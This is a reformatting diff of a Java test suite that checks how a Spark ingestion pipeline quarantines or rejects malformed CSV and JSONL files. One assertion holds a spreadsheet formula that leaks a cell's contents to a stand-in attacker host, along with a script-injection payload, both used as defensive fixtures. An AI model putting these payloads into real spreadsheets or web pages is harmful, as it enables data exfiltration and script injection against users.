@@ -44,12 +44,20 @@ import org.junit.jupiter.params.provider.MethodSource;
 class HostileInputTest {
   private static final YearMonth MONTH = YearMonth.of(2026, 9);
   private static final Instant NOW = Instant.parse("2026-11-01T00:00:00Z");
-  private static final Path CORPUS = TestSpark.repoRoot().resolve("jobs/src/test/resources/hostile");
-  /** The generated runaway line: a 50 MB field in one line (not committed: written at test time). */
+  private static final Path CORPUS =
+      TestSpark.repoRoot().resolve("jobs/src/test/resources/hostile");
+
+  /**
+   * The generated runaway line: a 50 MB field in one line (not committed: written at test time).
+   */
   private static final String BIG_LINE = "big_line.csv";
+
   private static final int BIG_FIELD_CHARS = 50 * 1024 * 1024;
 
-  /** A file whose records are judged one by one: how many it holds and how many land in quarantine, by reason. */
+  /**
+   * A file whose records are judged one by one: how many it holds and how many land in quarantine,
+   * by reason.
+   */
   record RowsCase(String source, String file, int records, Map<String, Integer> quarantined) {
     int accepted() {
       return records - quarantined.values().stream().mapToInt(Integer::intValue).sum();
@@ -76,35 +84,55 @@ class HostileInputTest {
         new RowsCase("tickets", "nul_bytes.csv", 3, Map.of("encoding", 2)),
         new RowsCase("tickets", "bom_utf8.csv", 2, Map.of()),
         new RowsCase("tickets", "crlf_lines.csv", 2, Map.of()),
-        new RowsCase("tickets", "timestamps.csv", 7, Map.of("future_timestamp", 1, "too_early", 2, "wrong_type", 1)),
+        new RowsCase(
+            "tickets",
+            "timestamps.csv",
+            7,
+            Map.of("future_timestamp", 1, "too_early", 2, "wrong_type", 1)),
         new RowsCase("tickets", "negative_durations.csv", 3, Map.of("inconsistent", 2)),
         new RowsCase("tickets", "extra_missing_fields.csv", 3, Map.of("malformed", 2)),
         new RowsCase("tickets", "empty.csv", 0, Map.of()),
         new RowsCase("tickets", "header_only.csv", 0, Map.of()),
-        new RowsCase("survey_responses", "likert.csv", 7, Map.of("out_of_range", 3, "wrong_type", 1)),
+        new RowsCase(
+            "survey_responses", "likert.csv", 7, Map.of("out_of_range", 3, "wrong_type", 1)),
         new RowsCase("survey_responses", "bom_utf8_crlf.csv", 1, Map.of()),
         new RowsCase("comm_log", "gbk.csv", 2, Map.of("encoding", 1)),
-        // 216 has an unquoted CRLF inside a field: RFC 4180 ends the record there, so it is two malformed records.
+        // 216 has an unquoted CRLF inside a field: RFC 4180 ends the record there, so it is two
+        // malformed records.
         new RowsCase("comm_log", "line_breaks.csv", 7, Map.of("malformed", 2)),
         new RowsCase("comm_log", "cr_only_lines.csv", 2, Map.of()),
         new RowsCase("comm_log", "formula_and_markup.csv", 6, Map.of()),
         new RowsCase("comm_log", BIG_LINE, 1, Map.of("out_of_range", 1)),
-        new RowsCase("social_comments", "markup.jsonl", 10,
+        new RowsCase(
+            "social_comments",
+            "markup.jsonl",
+            10,
             Map.of("encoding", 1, "too_early", 1, "missing_required", 1, "malformed", 1)),
         new RowsCase("social_comments", "bom.jsonl", 2, Map.of()));
   }
 
   static List<ErrorCase> errorCases() {
     return List.of(
-        new ErrorCase("tickets", "utf16.csv", "the file is UTF-16 encoded; landing files must be UTF-8"),
-        new ErrorCase("tickets", "utf16be_nobom.csv", "the file is UTF-16 encoded; landing files must be UTF-8"),
-        new ErrorCase("tickets", "duplicated_header.csv", "duplicated header column [channel]; missing column [priority]"),
+        new ErrorCase(
+            "tickets", "utf16.csv", "the file is UTF-16 encoded; landing files must be UTF-8"),
+        new ErrorCase(
+            "tickets",
+            "utf16be_nobom.csv",
+            "the file is UTF-16 encoded; landing files must be UTF-8"),
+        new ErrorCase(
+            "tickets",
+            "duplicated_header.csv",
+            "duplicated header column [channel]; missing column [priority]"),
         new ErrorCase("tickets", "extra_column.csv", "unexpected column [agent_email]"),
         new ErrorCase("tickets", "missing_column.csv", "missing column [csat]"),
-        new ErrorCase("tickets", "reordered_header.csv", "columns are in a different order than the contract"));
+        new ErrorCase(
+            "tickets",
+            "reordered_header.csv",
+            "columns are in a different order than the contract"));
   }
 
-  private final SchemaCatalog catalog = SchemaCatalog.fromDirectory(TestSpark.repoRoot().resolve("schemas"));
+  private final SchemaCatalog catalog =
+      SchemaCatalog.fromDirectory(TestSpark.repoRoot().resolve("schemas"));
   private Path work;
   private Lake lake;
   private final Map<String, BronzeIngest.Outcome> outcomes = new LinkedHashMap<>();
@@ -131,8 +159,10 @@ class HostileInputTest {
       for (Row r : bronze(source).groupBy("source_file").count().collectAsList()) {
         acceptedByFile.put(source + "/" + r.getString(0), r.getLong(1));
       }
-      for (Row r : quarantine(source).groupBy("source_file", "reason_code").count().collectAsList()) {
-        quarantinedByFile.computeIfAbsent(source + "/" + r.getString(0), f -> new TreeMap<>())
+      for (Row r :
+          quarantine(source).groupBy("source_file", "reason_code").count().collectAsList()) {
+        quarantinedByFile
+            .computeIfAbsent(source + "/" + r.getString(0), f -> new TreeMap<>())
             .put(r.getString(1), (int) r.getLong(2));
       }
     }
@@ -141,8 +171,10 @@ class HostileInputTest {
   /** One comm_log record whose topic is 50 MB, on one line without a final line break. */
   private static void writeBigLine(Path target) throws IOException {
     try (OutputStream out = Files.newOutputStream(target)) {
-      out.write(("log_id,logged_at,from_department,to_department,channel,topic,outcome,misinformation_flag,"
-          + "problem_category\nL2026090000299,2026-09-06 09:31:30,SALES,FIN,email,").getBytes(StandardCharsets.UTF_8));
+      out.write(
+          ("log_id,logged_at,from_department,to_department,channel,topic,outcome,misinformation_flag,"
+                  + "problem_category\nL2026090000299,2026-09-06 09:31:30,SALES,FIN,email,")
+              .getBytes(StandardCharsets.UTF_8));
       byte[] chunk = "runaway export ".repeat(1024).getBytes(StandardCharsets.UTF_8);
       for (long written = 0; written < BIG_FIELD_CHARS; written += chunk.length) {
         out.write(chunk);
@@ -158,7 +190,9 @@ class HostileInputTest {
     Map<String, Integer> quarantined = quarantinedByFile.getOrDefault(c.toString(), Map.of());
     assertEquals(new TreeMap<>(c.quarantined()), quarantined, c + ": quarantined rows by reason");
     assertEquals(c.accepted(), accepted, c + ": accepted rows");
-    assertEquals(c.records(), accepted + quarantined.values().stream().mapToInt(Integer::intValue).sum(),
+    assertEquals(
+        c.records(),
+        accepted + quarantined.values().stream().mapToInt(Integer::intValue).sum(),
         c + ": row conservation against the hand count");
   }
 
@@ -167,34 +201,58 @@ class HostileInputTest {
     for (String source : outcomes.keySet()) {
       List<RowsCase> cases = rowsCases().stream().filter(c -> c.source().equals(source)).toList();
       BronzeIngest.Outcome outcome = outcomes.get(source);
-      assertEquals(cases.stream().mapToInt(RowsCase::records).sum(), outcome.read(), source + " read");
-      assertEquals(cases.stream().mapToInt(RowsCase::accepted).sum(), outcome.accepted(), source + " accepted");
-      assertEquals(outcome.read(), outcome.accepted() + outcome.quarantined(), source + " conservation");
+      assertEquals(
+          cases.stream().mapToInt(RowsCase::records).sum(), outcome.read(), source + " read");
+      assertEquals(
+          cases.stream().mapToInt(RowsCase::accepted).sum(),
+          outcome.accepted(),
+          source + " accepted");
+      assertEquals(
+          outcome.read(), outcome.accepted() + outcome.quarantined(), source + " conservation");
     }
   }
 
   @Test
   void timestampsWithAndWithoutOffsetsMeanTheSameInstant() {
-    Map<String, Timestamp> created = bronze("tickets").where(col("source_file").equalTo("timestamps.csv"))
-        .select("ticket_id", "created_at").collectAsList().stream()
-        .collect(Collectors.toMap(r -> r.getString(0), r -> r.getTimestamp(1)));
+    Map<String, Timestamp> created =
+        bronze("tickets")
+            .where(col("source_file").equalTo("timestamps.csv"))
+            .select("ticket_id", "created_at")
+            .collectAsList()
+            .stream()
+            .collect(Collectors.toMap(r -> r.getString(0), r -> r.getTimestamp(1)));
     Timestamp midnightUtc = Timestamp.from(Instant.parse("2026-09-10T00:00:00Z"));
     // +08:00 offset, no offset (the contract's Asia/Shanghai), and Z: all the same instant.
-    assertEquals(Map.of("T2026090000153", midnightUtc, "T2026090000154", midnightUtc, "T2026090000155", midnightUtc),
+    assertEquals(
+        Map.of(
+            "T2026090000153",
+            midnightUtc,
+            "T2026090000154",
+            midnightUtc,
+            "T2026090000155",
+            midnightUtc),
         created);
   }
 
   @Test
   void textIsStoredVerbatimWithLineBreaksFormulasAndMarkup() {
-    Map<String, String> topics = bronze("comm_log").select("log_id", "topic").collectAsList().stream()
-        .collect(Collectors.toMap(r -> r.getString(0), r -> String.valueOf(r.get(1))));
+    Map<String, String> topics =
+        bronze("comm_log").select("log_id", "topic").collectAsList().stream()
+            .collect(Collectors.toMap(r -> r.getString(0), r -> String.valueOf(r.get(1))));
     assertEquals("first line\r\nsecond line", topics.get("L2026090000211"));
     assertEquals("first line\rsecond line", topics.get("L2026090000212"));
-    assertEquals("unquoted\rbare CR", topics.get("L2026090000214"), "a bare CR is not a record end in an LF file");
-    assertEquals("=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"click me\")", topics.get("L2026090000221"));
-    assertEquals("<script>alert('x')</script><img src=x onerror=alert(1)>", topics.get("L2026090000225"));
+    assertEquals(
+        "unquoted\rbare CR",
+        topics.get("L2026090000214"),
+        "a bare CR is not a record end in an LF file");
+    assertEquals(
+        "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"click me\")",
+        topics.get("L2026090000221"));
+    assertEquals(
+        "<script>alert('x')</script><img src=x onerror=alert(1)>", topics.get("L2026090000225"));
     Row crlfRow = bronze("comm_log").where(col("log_id").equalTo("L2026090000215")).first();
-    assertTrue(crlfRow.isNullAt(crlfRow.fieldIndex("problem_category")),
+    assertTrue(
+        crlfRow.isNullAt(crlfRow.fieldIndex("problem_category")),
         "a CRLF row end in an LF file must not leave a CR in the last field");
   }
 
@@ -213,14 +271,19 @@ class HostileInputTest {
   void theRunawayLineIsQuarantinedWithBoundedEvidence() {
     Row big = quarantine("comm_log").where(col("source_file").equalTo(BIG_LINE)).first();
     String raw = big.getString(big.fieldIndex("raw"));
-    assertTrue(raw.length() < 70_000, "quarantine keeps a bounded excerpt, got " + raw.length() + " characters");
+    assertTrue(
+        raw.length() < 70_000,
+        "quarantine keeps a bounded excerpt, got " + raw.length() + " characters");
     assertTrue(raw.endsWith("characters]"), raw.substring(raw.length() - 80));
-    assertTrue(big.getString(big.fieldIndex("reason")).startsWith("topic: value of "), big.getString(big.fieldIndex("reason")));
+    assertTrue(
+        big.getString(big.fieldIndex("reason")).startsWith("topic: value of "),
+        big.getString(big.fieldIndex("reason")));
   }
 
   @ParameterizedTest(name = "{0}")
   @MethodSource("errorCases")
-  void aFileThatCannotBeReadStopsTheBatchWithOneClearLineAndWritesNothing(ErrorCase c) throws IOException {
+  void aFileThatCannotBeReadStopsTheBatchWithOneClearLineAndWritesNothing(ErrorCase c)
+      throws IOException {
     Path landing = work.resolve("error-" + c.file());
     Path folder = landing.resolve(c.source()).resolve(MONTH.toString());
     Files.createDirectories(folder);
@@ -230,21 +293,37 @@ class HostileInputTest {
     long quarantineVersion = lake.version(catalog.table("bronze.quarantine"));
     long auditVersion = lake.version(catalog.table("ops.ingest_audit"));
 
-    CliResult result = CliResult.run("ingest", "--source", c.source(), "--month", MONTH.toString(),
-        "--landing", landing.toString(), "--lake", work.resolve("lake").toString());
+    CliResult result =
+        CliResult.run(
+            "ingest",
+            "--source",
+            c.source(),
+            "--month",
+            MONTH.toString(),
+            "--landing",
+            landing.toString(),
+            "--lake",
+            work.resolve("lake").toString());
 
     assertEquals(1, result.exitCode(), result.stderr());
     assertEquals(1, result.stderr().lines().count(), "one line: " + result.stderr());
-    assertTrue(result.stderr().startsWith("error: landing file " + c.source() + "/" + MONTH + "/" + c.file() + ": "),
+    assertTrue(
+        result
+            .stderr()
+            .startsWith("error: landing file " + c.source() + "/" + MONTH + "/" + c.file() + ": "),
         result.stderr());
     assertTrue(result.stderr().contains(c.message()), result.stderr());
     assertEquals(bronzeVersion, lake.version(bronze), "bronze untouched");
-    assertEquals(quarantineVersion, lake.version(catalog.table("bronze.quarantine")), "quarantine untouched");
+    assertEquals(
+        quarantineVersion,
+        lake.version(catalog.table("bronze.quarantine")),
+        "quarantine untouched");
     assertEquals(auditVersion, lake.version(catalog.table("ops.ingest_audit")), "audit untouched");
   }
 
   private org.apache.spark.sql.Dataset<Row> bronze(String source) {
-    return lake.read(catalog.table("bronze." + source)).where(col("month").equalTo(MONTH.toString()));
+    return lake.read(catalog.table("bronze." + source))
+        .where(col("month").equalTo(MONTH.toString()));
   }
 
   private org.apache.spark.sql.Dataset<Row> quarantine(String source) {
@@ -260,8 +339,13 @@ class HostileInputTest {
       System.setErr(new PrintStream(captured, true, StandardCharsets.UTF_8));
       try {
         int code = CommPulse.execute(args);
-        return new CliResult(code, captured.toString(StandardCharsets.UTF_8)
-            .lines().filter(l -> !l.contains(" WARN ")).collect(Collectors.joining("\n")));
+        return new CliResult(
+            code,
+            captured
+                .toString(StandardCharsets.UTF_8)
+                .lines()
+                .filter(l -> !l.contains(" WARN "))
+                .collect(Collectors.joining("\n")));
       } finally {
         System.setErr(original);
       }
